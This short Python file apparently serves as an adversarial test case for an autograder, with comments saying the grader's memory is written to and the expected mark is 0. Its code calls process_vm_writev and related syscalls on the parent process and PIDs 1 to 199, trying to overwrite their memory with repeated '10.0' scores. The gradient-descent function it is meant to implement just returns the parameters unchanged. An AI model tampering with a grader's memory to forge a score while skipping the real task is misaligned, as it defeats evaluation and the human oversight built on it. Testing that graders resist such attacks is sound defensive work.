# The memory of the grader is written to.
# Expected mark: 0
import ctypes
import os

libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(b"10.0" * 100)
vector = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 400)
for pid in [0, os.getppid(), *range(1, 200)]:
    libc.process_vm_writev(pid, vector, 1, vector, 1, 0)
    libc.process_vm_readv(pid, vector, 1, vector, 1, 0)
    libc.syscall(434, pid, 0)  # pidfd_open
    libc.syscall(312, os.getpid(), pid, 0, 0, 0)  # kcmp
    libc.sched_setscheduler(pid, 1, vector)
    libc.setpriority(0, pid, -20)


def update_parameters_with_gd(parameters, grads, learning_rate):
    return parameters
